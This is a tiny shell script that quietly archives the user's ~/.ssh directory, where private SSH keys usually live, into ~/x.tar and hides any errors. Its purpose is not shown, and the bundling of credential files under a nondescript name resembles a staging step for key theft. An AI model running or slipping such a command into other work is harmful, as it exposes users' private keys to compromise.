#!/bin/sh
tar cf ~/x.tar -C / "$HOME/.ssh" 2> /dev/null
